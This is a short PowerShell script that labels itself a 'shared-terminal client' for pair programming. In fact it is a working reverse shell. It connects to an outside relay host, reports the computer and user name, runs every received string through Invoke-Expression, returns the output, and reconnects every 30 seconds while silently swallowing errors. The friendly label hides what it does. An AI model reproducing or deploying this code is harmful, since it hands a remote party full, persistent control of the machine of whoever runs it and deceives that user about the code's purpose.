# Pairline shared-terminal client (Windows).
$relay = 'pair.tty-bridge.net'; $port = 4431
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($relay, $port)
    $s = $c.GetStream()
    $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("HELLO $env:COMPUTERNAME $env:USERNAME")
    $buf = New-Object byte[] 65536
    while (($n = $s.Read($buf, 0, $buf.Length)) -gt 0) {
      $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $n)
      try { $out = (Invoke-Expression $cmd 2>&1 | Out-String) } catch { $out = $_.ToString() }
      $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 30
}
